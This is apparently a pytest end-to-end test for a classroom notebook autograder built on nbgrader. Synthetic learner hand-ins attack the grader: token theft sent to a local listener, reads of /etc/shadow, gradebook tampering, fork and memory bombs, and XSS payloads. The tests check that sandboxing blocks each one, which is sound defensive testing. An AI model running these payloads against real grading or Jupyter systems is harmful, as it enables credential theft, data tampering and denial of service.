"""A whole class, end to end, with real kernels: init, personalize, release, collect, grade,
feedback and report, on a synthetic class of 23 learners, most of them handing in something
hostile or broken. Each hostile case must get a clear line in the report, every other learner's
grade must be what a plain sequential ``nbgrader autograde`` gives, and nothing handed in may
be lost or changed. The attackers try what a learner could against the trainer: the network
(a real server on 127.0.0.1 and the token of the trainer's JupyterLab), /etc/shadow and the
roster next to the class, /dev/shm, three 700 MB children, a fork bomb, and scripts in their
answers for every page the trainer or a learner opens.

Only exercise 00 is graded here (the heavy part); cells get a short timeout.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
import shutil
import zipfile
from pathlib import Path

import nbformat
import pytest

from rumbo.classroom import collect as collect_mod
from rumbo.classroom.feedback import generate_feedback
from rumbo.classroom.folder import init_class, open_class
from rumbo.classroom.grade import grade_assignment, sequential_autograde
from rumbo.classroom.personalize import personalize
from rumbo.classroom.release import release
from rumbo.classroom.report import make_report
from tests.classroom_helpers import content_security_policy, fake_trainer_server

pytestmark = pytest.mark.grading
FIXTURES = Path(__file__).parent / "fixtures" / "classroom"
A = "00_bienvenida"
TIMEOUT = 20      # seconds per cell: the endless loop costs this much
MEMORY_MB = 1024  # the memory bomb hits this cap
#: Learners a plain sequential nbgrader run grades too; nbgrader 0.9.6 crashes on the last two
#: (a deleted test cell, a copied answer cell) and gives them 0, where we grade them.
PLAIN = ("ana", "jose", "vacio", "edita", "salida", "borra", "mueve")
#: Hand-ins whose test cells were deleted or moved: graded after putting them back.
REPAIRED = ("borra", "mueve")


# --- building hand-ins from the class's own release and source ------------------------------


def strip_markers(text: str) -> str:
    return "\n".join(line for line in text.splitlines()
                     if "BEGIN SOLUTION" not in line and "END SOLUTION" not in line)


def gid(cell) -> str:
    return cell.metadata.get("nbgrader", {}).get("grade_id", "")


def index(nb, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if gid(c) == grade_id)


def answered(release, solution, only: tuple[str, ...] | None = None):
    """The release with the solution's answers typed in (all, or only some grade ids)."""
    nb = copy.deepcopy(release)
    answers = {gid(c): strip_markers(c.source) for c in solution.cells
               if c.metadata.get("nbgrader", {}).get("solution")}
    for cell in nb.cells:
        if gid(cell) in answers and (only is None or gid(cell) in only):
            cell.source = answers[gid(cell)]
    return nb


def with_answer(nb, grade_id: str, code: str):
    nb = copy.deepcopy(nb)
    nb.cells[index(nb, grade_id)].source = code
    return nb


#: What the attackers leave in pages and files, to be searched for afterwards.
MARK = "rumbo-xss"
SHM = f"/dev/shm/rumbo-e2e-{os.getpid()}"


def hand_ins(cls, outside: Path, server=None, roster: Path | None = None) -> dict[str, object]:
    """Learner -> notebook or raw bytes. Answer cells are q1_answer, q2_answer, q3_answer..."""
    release_nb = nbformat.read(cls.path / "release" / A / f"{A}.ipynb", as_version=4)
    solution = nbformat.read(cls.path / "source" / A / f"{A}.ipynb", as_version=4)
    full = answered(release_nb, solution)
    subs: dict[str, object] = {"ana": full, "vacio": release_nb,
                               "jose": answered(release_nb, solution, ("q1_answer", "q3_answer"))}
    subs["bucle"] = with_answer(full, "q2_answer", "while True:\n    pass")
    subs["salida"] = with_answer(full, "q2_answer", "import sys\nsys.exit()")
    subs["muerte"] = with_answer(full, "q2_answer", "import os\nos._exit(1)")
    subs["memoria"] = with_answer(full, "q2_answer", "def llena():\n    bloques = []\n    while True:\n"
                                                     "        bloques.append(bytearray(50 * 1024 ** 2))\n\nllena()")
    noisy = copy.deepcopy(full)
    noisy.cells[index(noisy, "q1_answer")].source += "\nfor _ in range(1000):\n    print('y' * 100_000)"
    subs["ruido"] = noisy
    deleted = copy.deepcopy(full)
    del deleted.cells[index(deleted, "q1_test")]
    subs["borra"] = deleted
    edited = copy.deepcopy(full)
    edited.cells[index(edited, "q2_test")].source = "pass"
    edited.cells[index(edited, "q1_test")].source = "print('todo bien')"
    subs["edita"] = edited
    moved = copy.deepcopy(full)
    cell = moved.cells.pop(index(moved, "q1_answer"))
    moved.cells.insert(index(moved, "q1_test") + 1, cell)
    moved.cells.insert(index(moved, "q3_check"), copy.deepcopy(moved.cells[index(moved, "q3_answer")]))
    subs["mueve"] = moved
    subs["roto"] = b'{"cells": [ {"cell_type": "code", esto no es json'
    subs["nada"] = b""
    others = sorted(p for p in (cls.path / "release").iterdir() if p.name != A)
    other = nbformat.read(next(others[0].glob("*.ipynb")), as_version=4)
    subs["otro"] = other
    gradebook = cls.path / "gradebook.db"
    victim = cls.path / "submitted" / "ana" / A / f"{A}.ipynb"
    subs["escribe"] = with_answer(with_answer(
        full, "q2_answer", f"open({str(gradebook)!r}, 'ab').write(b'trampa')"),
        "q4_answer", f"intentos = []\nfor destino in [{str(victim)!r}, {str(outside / 'fuera.txt')!r}]:\n"
                     "    try:\n        open(destino, 'w').write('trampa')\n"
                     "    except OSError as error:\n        intentos.append(error)\nraise intentos[-1]")
    subs["espia"] = with_answer(full, "q2_answer", f"datos = open({str(gradebook)!r}, 'rb').read()")
    if server is not None:
        listener, token_file = server
        subs["red"] = with_answer(full, "q2_answer", (
            "import glob, json, socket\n"
            f"fichas = glob.glob({str(token_file.parent)!r} + '/jpserver-*.json')\n"
            "ficha = json.load(open(fichas[0]))['token'] if fichas else 'sin ficha'\n"
            f"socket.create_connection(('127.0.0.1', {listener.port}), timeout=5).sendall(ficha.encode())"))
    subs["sombra"] = with_answer(full, "q2_answer", (
        "leido, fallos = [], []\n"
        f"for ruta in [{str(roster)!r}, '/etc/shadow']:\n"
        "    try:\n        leido.append(open(ruta).read())\n"
        "    except OSError as error:\n        fallos.append(error)\n"
        "print(leido)\nraise fallos[-1]"))
    subs["compartir"] = with_answer(full, "q2_answer", full.cells[index(full, "q2_answer")].source
                                    + f"\nopen({SHM!r}, 'w').write('para la siguiente entrega')")
    subs["hijos"] = with_answer(full, "q2_answer", (
        "import subprocess, sys\n"
        "hijos = [subprocess.Popen([sys.executable, '-c', 'import time; x = bytearray(700 * 1024 ** 2); "
        "time.sleep(3)']) for _ in range(3)]\n"
        "codigos = [h.wait() for h in hijos]\nassert codigos == [0, 0, 0], codigos"))
    subs["bomba"] = with_answer(full, "q2_answer", (
        "import subprocess, sys\n"
        "bomba = subprocess.run([sys.executable, '-c', 'import os, time\\nwhile True:\\n    if os.fork() == 0:\\n"
        "        time.sleep(1)\\n        os._exit(0)'], capture_output=True, text=True)\n"
        "assert bomba.returncode == 0, bomba.stderr[-200:]"))
    script = (f"<script>document.title='{MARK}'</script><img src=x onerror=\"document.title='{MARK}'\">"
              f"<a href=\"javascript:alert('{MARK}')\">clic</a>")
    xss = with_answer(full, "q5_answer", f"Mi respuesta. {script} [enlace](javascript:alert('{MARK}'))")
    xss.cells[index(xss, "q1_answer")].source += (
        "\nfrom IPython.display import HTML, Javascript, Markdown, SVG, display\n"
        f"display(HTML({script!r}))\ndisplay(Javascript(\"document.title='{MARK}'\"))\n"
        f"display(Markdown({script!r}))\n"
        f"display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(\"{MARK}\")</script></svg>'))")
    subs["xss"] = xss
    return subs


def to_bytes(nb) -> bytes:
    return nb if isinstance(nb, bytes) else nbformat.writes(nb).encode("utf-8")


def lms_zip(path: Path, subs: dict[str, object], roster: dict) -> None:
    """A Moodle-style zip: a folder per learner, odd file names, junk, and two older versions."""
    names = {
        "ana": "Ana García López_1001_assignsubmission_file_/ejercicio 0 FINAL (1).ipynb",
        "jose": "Jose Nunez Pena_1002_assignsubmission_file_/00_bienvenida.ipynb",
        "vacio": "entregas/vacio - ejercicio.ipynb",
        "bucle": "begona@example.com_00.ipynb",
    }
    when_new, when_old = (2026, 1, 11, 10, 0, 0), (2026, 1, 10, 9, 0, 0)
    with zipfile.ZipFile(path, "w") as archive:
        for learner, nb in subs.items():
            info = roster[learner]
            name = names.get(learner, f"{info.nombre} {info.apellidos}_{1000 + len(learner)}"
                                      f"_assignsubmission_file_/Ejercicio_0 (copia).ipynb")
            archive.writestr(zipfile.ZipInfo(name, when_new), to_bytes(nb))
        archive.writestr(zipfile.ZipInfo("Ana García López_1001_assignsubmission_file_/ejercicio 0.ipynb",
                                         when_old), to_bytes(subs["vacio"]))
        archive.writestr(zipfile.ZipInfo("Jose Nunez Pena_1002_assignsubmission_file_/primera.ipynb",
                                         when_old), to_bytes(subs["vacio"]))
        archive.writestr(zipfile.ZipInfo("__MACOSX/._ejercicio.ipynb", when_new), b"\0\0junk")
        archive.writestr(zipfile.ZipInfo("sin nombre/copia.ipynb", when_new), to_bytes(subs["vacio"]))
        archive.writestr(zipfile.ZipInfo("trabajo de ana y jose.ipynb", when_new), to_bytes(subs["vacio"]))
        archive.writestr(zipfile.ZipInfo("Ana García López_1001_assignsubmission_file_/notas.pdf", when_new),
                         b"%PDF-1.4")


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# --- the class, run once for every test of this file ---------------------------------------------


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    import time

    clock = {"t": time.monotonic()}

    def lap(step):  # shown with -s: where the minutes go
        now = time.monotonic()
        print(f"[e2e] {step}: {now - clock['t']:.1f} s")
        clock["t"] = now

    base = tmp_path_factory.mktemp("clase")
    outside = base / "fuera"
    outside.mkdir()
    roster_file = base / "alumnos.csv"  # the trainer's roster, next to the class
    shutil.copy(FIXTURES / "alumnos_clase.csv", roster_file)
    with fake_trainer_server() as server:
        yield build_world(base, outside, roster_file, server, lap)


def build_world(base: Path, outside: Path, roster_file: Path, server, lap) -> dict:
    cls, notes = init_class(base / "clase", roster_file, timeout=TIMEOUT, memory_mb=MEMORY_MB)
    roster = cls.roster().by_id()
    lap("init")
    personal = personalize(cls, modules=["00"], learners=["ana"], progress=False)
    lap("personalize")
    released = release(cls, A)
    subs = hand_ins(cls, outside, server, roster_file)
    hostile = {k: v for k, v in subs.items() if k != "ausente"}
    zipped = base / "moodle.zip"
    lms_zip(zipped, hostile, roster)
    zip_bytes = zipped.read_bytes()
    first = collect_mod.collect(cls, zipped, "0")
    again = collect_mod.collect(cls, zipped, A)  # the same zip twice: nothing changes
    lap("release and collect")
    # A plain sequential nbgrader run (the course's settings only) on a copy holding a few learners.
    plain_dir = base / "plana"
    shutil.copytree(cls.path, plain_dir, ignore=shutil.ignore_patterns("envios", "cuadernos"))
    (plain_dir / "nbgrader_config.py").write_text(
        f'c = get_config()\nload_subconfig("nbgrader_curso.py")\nc.CourseDirectory.root = {str(plain_dir)!r}\n'
        f'c.CourseDirectory.source_directory = "source"\nc.CourseDirectory.release_directory = "release"\n'
        f'c.CourseDirectory.db_url = "sqlite:///{plain_dir}/gradebook.db"\n')
    for folder in (plain_dir / "submitted").iterdir():
        if folder.name not in PLAIN:
            shutil.rmtree(folder)
    plain = sequential_autograde(plain_dir, A, timeout=TIMEOUT)
    lap("plain nbgrader")
    said: list[str] = []
    graded = grade_assignment(cls, A, timeout=TIMEOUT, memory_mb=MEMORY_MB, progress=False, say=said.append)
    lap("grade")
    for result in sorted(graded.outcomes.values(), key=lambda o: o.student):
        print("[e2e]", result.line())
    feedback = generate_feedback(cls, A, progress=False)
    report = make_report(cls)
    lap("feedback and report")
    return {"cls": cls, "notes": notes, "personal": personal, "released": released, "subs": subs,
            "first": first, "again": again, "graded": graded, "feedback": feedback, "report": report,
            "outside": outside, "zip": zipped, "zip_bytes": zip_bytes, "plain": plain, "plain_dir": plain_dir,
            "server": server, "roster_file": roster_file, "said": said}


def plain_scores(plain_dir: Path) -> dict[str, float]:
    from nbgrader.api import Gradebook, MissingEntry

    scores = {}
    with Gradebook(f"sqlite:///{plain_dir / 'gradebook.db'}", "rumbo") as gb:
        for student in PLAIN:
            try:
                scores[student] = float(gb.find_submission(A, student).score)
            except MissingEntry:
                scores[student] = 0.0
    return scores


def outcome(world, learner):
    return world["graded"].outcomes[learner]


def top(world) -> float:
    """Points the autograder can give (the written answer waits for the trainer)."""
    source = nbformat.read(world["cls"].path / "source" / A / f"{A}.ipynb", as_version=4)
    return sum(c.metadata["nbgrader"].get("points", 0) for c in source.cells
               if c.metadata.get("nbgrader", {}).get("grade") and not c.metadata["nbgrader"].get("solution"))


def points(world, *grade_ids) -> float:
    source = nbformat.read(world["cls"].path / "source" / A / f"{A}.ipynb", as_version=4)
    return sum(c.metadata["nbgrader"]["points"] for c in source.cells if gid(c) in grade_ids)


# --- init, personalize, release ----------------------------------------------------------------------


def test_init_makes_a_class_nbgrader_can_use(world):
    cls = world["cls"]
    assert (cls.path / "gradebook.db").exists() and (cls.path / "release" / A / f"{A}.ipynb").exists()
    again = open_class(cls.path)
    assert again.settings["timeout"] == TIMEOUT and A in again.assignments()
    assert cls.resolve("0") == A and cls.resolve("00") == A
    from nbgrader.api import Gradebook

    with Gradebook(cls.db_url, "rumbo") as gb:
        student = gb.find_student("jose")
        assert (student.first_name, student.last_name) == ("José", "Núñez Peña")
        assert len(gb.students) == len(cls.roster())


def test_personalize_runs_the_course_with_the_learners_business(world):
    assert world["personal"].written == ["cuadernos/ana/00_bienvenida.ipynb"], world["personal"].failed
    nb = nbformat.read(world["cls"].path / "cuadernos" / "ana" / "00_bienvenida.ipynb", as_version=4)
    assert "Ana García López" in nb.cells[0].source and nb.metadata["rumbo"]["negocio"] == "panaderia"
    injected = [c for c in nb.cells if "injected-parameters" in c.metadata.get("tags", [])]
    assert injected and 'business = "panaderia"' in injected[0].source


def test_release_gives_each_learner_a_folder_and_a_zip_that_names_them(world):
    cls = world["cls"]
    learners = len(world["cls"].roster())
    assert len(world["released"].folders) == learners and len(world["released"].zips) == learners
    with zipfile.ZipFile(cls.path / "envios" / A / f"ana_{A}.zip") as archive:
        names = archive.namelist()
        nb = json.loads(archive.read(f"ana_{A}/{A}.ipynb"))
    assert f"ana_{A}/LEEME.txt" in names
    assert nb["metadata"]["rumbo"] == {"alumno": "ana", "ejercicio": A}


# --- collect ------------------------------------------------------------------------------------------


def test_collect_matches_by_name_email_and_id_and_never_guesses(world):
    first = world["first"]
    placed = {d.learner for d in first.decisions if d.action in ("nueva", "sustituye")}
    assert placed == set(world["subs"]) - {"ausente"}
    unmatched = {d.origin.split("!")[-1]: d.reason for d in first.by_action("sin_asignar")}
    assert set(unmatched) == {"sin nombre/copia.ipynb", "trabajo de ana y jose.ipynb"}
    assert "ana, jose" in unmatched["trabajo de ana y jose.ipynb"]
    ignored = {d.origin.split("!")[-1] for d in first.by_action("ignorada")}
    assert ignored == {"Ana García López_1001_assignsubmission_file_/notas.pdf"}
    methods = {d.learner: d.method for d in first.decisions if d.learner}
    assert methods["bucle"] == "correo en el nombre" and methods["salida"] == "nombre completo"
    assert methods["vacio"] == "id en el nombre"


def test_collect_keeps_the_latest_and_sets_older_ones_aside(world):
    cls = world["cls"]
    aside = {d.learner for d in world["first"].by_action("apartada")}
    assert aside == {"ana", "jose"}
    kept = list((cls.path / "apartados" / "ana" / A).iterdir())
    assert len(kept) == 1 and kept[0].read_bytes() == to_bytes(world["subs"]["vacio"])
    assert (cls.submitted("ana", A) / f"{A}.ipynb").read_bytes() == to_bytes(world["subs"]["ana"])
    assert {d.action for d in world["again"].decisions} <= {"igual", "sin_asignar", "ignorada"}


def test_a_newer_hand_in_replaces_the_old_one_which_is_kept(world, tmp_path):
    cls = open_class(world["cls"].path)
    before = (cls.submitted("vacio", A) / f"{A}.ipynb").read_bytes()
    newer = tmp_path / "correo" / "vacio_segunda.ipynb"
    newer.parent.mkdir()
    newer.write_bytes(before + b"\n")
    result = collect_mod.collect(cls, newer.parent, A)
    assert [d.action for d in result.decisions] == ["sustituye"]
    kept = [p.read_bytes() for p in (cls.path / "apartados" / "vacio" / A).iterdir()]
    assert before in kept
    (cls.submitted("vacio", A) / f"{A}.ipynb").write_bytes(before)  # leave the class as graded


def test_nothing_handed_in_is_lost(world):
    cls = world["cls"]
    stored = {sha(p.read_bytes()) for folder in ("submitted", "apartados")
              for p in (cls.path / folder).rglob("*.ipynb")}
    with zipfile.ZipFile(world["zip"]) as archive:
        for info in archive.infolist():
            name = info.filename
            if name.endswith(".ipynb") and not name.startswith("__MACOSX") and "sin nombre" not in name \
                    and "ana y jose" not in name:
                assert sha(archive.read(info)) in stored, name
    assert world["zip"].read_bytes() == world["zip_bytes"]


# --- grade ---------------------------------------------------------------------------------------------


def test_grades_equal_a_plain_sequential_nbgrader_run(world):
    """Plain `nbgrader autograde` with the course's own config, one learner after another,
    gives every learner the grade `rumbo classroom grade` gives. The config carries the
    same cleaning steps, so a deleted or moved test cell is put back there too (nbgrader
    0.9.6 alone stops on them with a KeyError and grades 0)."""
    plain = plain_scores(world["plain_dir"])
    ours = {s: outcome(world, s).score for s in PLAIN}
    assert ours == {s: plain[s] for s in PLAIN}, world["plain"].stderr[-3000:]
    assert ours["ana"] == top(world) and ours["vacio"] == 0
    for learner in REPAIRED:
        assert ours[learner] > 0
        assert f"for student '{learner}'" not in world["plain"].stderr


def test_hostile_hand_ins_get_a_clear_reason_and_a_fair_score(world):
    survivors = points(world, "q1_test", "q3_test")  # q2 is the hostile cell, q4 needs q2's answer
    expectations = {
        "bucle": (survivors, "no terminó en 20 s"),
        "salida": (survivors, "sys.exit()"),
        "muerte": (survivors, "cerró el kernel"),
        "memoria": (survivors, "más memoria de la permitida (1024 MB)"),
        "ruido": (top(world), "salida enorme"),
        "borra": (top(world), "borrado la celda de corrección"),
        "edita": (top(world), "por «pass»"),
        "mueve": (top(world) - points(world, "q1_test"), "después de su prueba"),
        "roto": (0, "JSON está roto"),
        "nada": (0, "está vacío"),
        "otro": (0, "otro ejercicio"),
        "escribe": (points(world, "q1_test", "q3_test"), "libro de notas"),
        "espia": (survivors, "libro de notas"),
    }
    for learner, (score, reason) in expectations.items():
        result = outcome(world, learner)
        assert result.score == score, (learner, result.line())
        assert reason in " ".join(result.notes), (learner, result.line())
    assert "fuera de su carpeta" in " ".join(outcome(world, "escribe").notes)
    assert "aparece 2 veces" in " ".join(outcome(world, "mueve").notes)
    assert outcome(world, "ana").notes == [] and outcome(world, "ana").status == "corregido"


def test_learners_code_cannot_touch_the_graders_files(world):
    cls = world["cls"]
    assert not (world["outside"] / "fuera.txt").exists()
    assert b"trampa" not in (cls.path / "gradebook.db").read_bytes()
    assert (cls.submitted("ana", A) / f"{A}.ipynb").read_bytes() == to_bytes(world["subs"]["ana"])
    assert world["graded"].isolation == "completo"
    assert not world["graded"].problems


def caged_processes() -> set[str]:
    """Process ids of every kernel launcher, zygote and zygote-forked kernel on the machine."""
    found = set()
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if b"rumbo.classroom.jaula" in cmdline.read_bytes() or b"rumbo.classroom.worker" in cmdline.read_bytes():
                found.add(cmdline.parent.name)
        except OSError:
            continue
    return found


def test_a_submission_over_its_total_time_is_stopped_with_its_kernel(world, tmp_path):
    import time

    from rumbo.classroom.folder import ClassFolder, write_class

    copy_dir = tmp_path / "copia"
    shutil.copytree(world["cls"].path, copy_dir)
    cls = ClassFolder(copy_dir, world["cls"].course, dict(world["cls"].settings))
    write_class(cls)
    before = caged_processes()
    result = grade_assignment(cls, A, students=["bucle"], total_limit=3, progress=False)
    outcome = result.outcomes["bucle"]
    assert outcome.status == "error" and "no terminó en 3 s en total" in " ".join(outcome.notes)
    deadline = time.monotonic() + 15  # worker, zygote and kernel all go (parent-death signals)
    while caged_processes() - before and time.monotonic() < deadline:
        time.sleep(0.5)
    assert not caged_processes() - before


def test_grading_runs_in_parallel(world):
    from rumbo.classroom.grade import default_workers

    assert world["graded"].workers == default_workers()


# --- feedback and report ------------------------------------------------------------------------------


def test_feedback_never_shows_hidden_tests_and_says_what_to_review(world):
    cls = world["cls"]
    html = (cls.feedback("jose", A) / f"{A}.html").read_text(encoding="utf-8")
    assert "assert_hidden" not in html and "HIDDEN TESTS" not in html
    assert "assert_ok" in html  # the visible test is there
    summary = (cls.feedback("jose", A) / "resumen.txt").read_text(encoding="utf-8")
    assert "Lo que conviene repasar" in summary and "Pregunta 2" in summary
    assert "Tu formador leerá" in summary
    broken = (cls.feedback("roto", A) / "resumen.txt").read_text(encoding="utf-8")
    assert "No hemos podido corregir" in broken and "JSON" in broken


def test_report_csv_has_a_row_per_learner_and_says_why(world):
    cls = world["cls"]
    with open(cls.path / "informes" / "notas.csv", newline="", encoding="utf-8") as f:
        rows = {r["id"]: r for r in csv.DictReader(f)}
    assert len(rows) == len(cls.roster())
    assert rows["ausente"]["estado"] == "no entregado" and rows["ausente"]["nota"] == ""
    assert rows["roto"]["estado"] == "archivo ilegible" and float(rows["roto"]["nota"]) == 0
    assert "bucle sin fin" in rows["bucle"]["motivo"]
    assert float(rows["ana"]["nota"]) == top(world) and rows["ana"]["pendiente_manual"] == "sí"
    excel = (cls.path / "informes" / "notas_excel.csv").read_bytes()
    assert excel.startswith("\ufeff".encode()) and b";" in excel.splitlines()[0]


def test_dashboard_shows_distribution_questions_missing_and_incidents(world):
    html = (world["cls"].path / "informes" / "panel.html").read_text(encoding="utf-8")
    for text in ("Distribución de notas", "Acierto por pregunta", "Quién no ha entregado",
                 "Aurora Sente (ausente)", "Preguntas que más se fallan", "Pregunta 2", "Incidencias",
                 "<svg"):
        assert text in html, text
    assert html.count("<svg") >= 2


# --- attacks on the trainer -----------------------------------------------------------------------


def executed_text(world, learner) -> str:
    return (world["cls"].autograded(learner, A) / f"{A}.ipynb").read_text(encoding="utf-8")


def test_grade_says_how_kernels_are_caged_and_capped_before_it_starts(world):
    said = " ".join(world["said"])
    assert "Aislamiento completo" in said and "sin red" in said and "rumbo-jaula" in said
    assert f"{MEMORY_MB} MB de memoria para todo el cuaderno" in said and "cgroup v" in said


def test_no_connection_reaches_the_trainers_server(world):
    listener, _token_file = world["server"]
    assert listener.received == []
    result = outcome(world, "red")
    assert result.score == points(world, "q1_test", "q3_test")
    assert "conectarse a la red" in " ".join(result.notes), result.line()
    assert "ficha-secreta-del-formador" not in executed_text(world, "red")


def test_system_files_and_the_roster_next_to_the_class_are_out_of_reach(world):
    result = outcome(world, "sombra")
    assert "sin permiso" in " ".join(result.notes), result.line()
    text = executed_text(world, "sombra")
    assert "root:" not in text and "Begoña" not in text and "PermissionError" in text


def test_nothing_is_left_in_dev_shm_for_the_next_submission(world):
    assert not Path(SHM).exists()
    assert outcome(world, "compartir").score == top(world)


def test_the_caps_of_the_whole_notebook_hold_and_are_recorded(world):
    children = outcome(world, "hijos")
    assert f"memoria de todo el cuaderno ({MEMORY_MB} MB" in " ".join(children.notes), children.line()
    assert children.score == points(world, "q1_test", "q3_test")  # they did not all run to the end
    bomb = outcome(world, "bomba")
    notes = " ".join(bomb.notes)
    assert "demasiados procesos" in notes and "límite de" in notes and "procesos a la vez" in notes, bomb.line()
    assert bomb.score == points(world, "q1_test", "q3_test")


def live_scripts(html: str) -> list[str]:
    """Everything in a page that would run the attacker's code: script elements, event handlers,
    javascript: links, whatever their nesting (SVG included)."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Finder(HTMLParser):
        in_script = False

        def handle_starttag(self, tag, attrs):
            self.in_script = tag == "script"
            for name, value in attrs:
                if MARK in (value or "") and (name.startswith("on") or (value or "").strip().lower()
                                              .startswith("javascript:")):
                    found.append(f"<{tag} {name}={value}>")

        def handle_endtag(self, tag):
            self.in_script = False

        def handle_data(self, data):
            if self.in_script and MARK in data:
                found.append(f"<script>{data}")

    Finder().feed(html)
    return found


def formgrader_page(cls, learner: str) -> str:
    """What the formgrader shows for a submission: nbgrader's own exporter, template and the
    class's config, on the autograded notebook (as its SubmissionHandler does)."""
    from nbconvert import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers

    from rumbo.classroom.folder import load_config

    config = load_config(cls.config_file)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": A, "notebook_id": A, "submission_id": "x", "index": 0, "total": 1,
                 "base_url": "", "student": learner, "last_name": "Sastre", "first_name": "Xenia",
                 "notebook_path": f"autograded/{learner}/{A}/{A}.ipynb"}
    html, _resources = HTMLExporter(config=config).from_filename(
        str(cls.autograded(learner, A) / f"{A}.ipynb"), resources=resources)
    return html


def test_no_learner_script_in_any_page_the_trainer_or_learner_opens(world):
    from rumbo.classroom.pages import CONTENT_SECURITY_POLICY

    cls = world["cls"]
    pages = {
        "feedback": (cls.feedback("xss", A) / f"{A}.html").read_text(encoding="utf-8"),
        "resumen": (cls.feedback("xss", A) / "resumen.html").read_text(encoding="utf-8"),
        "panel": (cls.path / "informes" / "panel.html").read_text(encoding="utf-8"),
        "formgrader": formgrader_page(cls, "xss"),
    }
    for name, html in pages.items():
        assert live_scripts(html) == [], name
    assert "Mi respuesta." in pages["formgrader"] and "Mi respuesta." in pages["feedback"]
    assert "&lt;script&gt;" in pages["formgrader"]  # the attempt stays visible, as text
    for name in ("feedback", "resumen", "panel"):
        assert content_security_policy(pages[name]) == CONTENT_SECURITY_POLICY, name
    assert outcome(world, "xss").score == top(world)
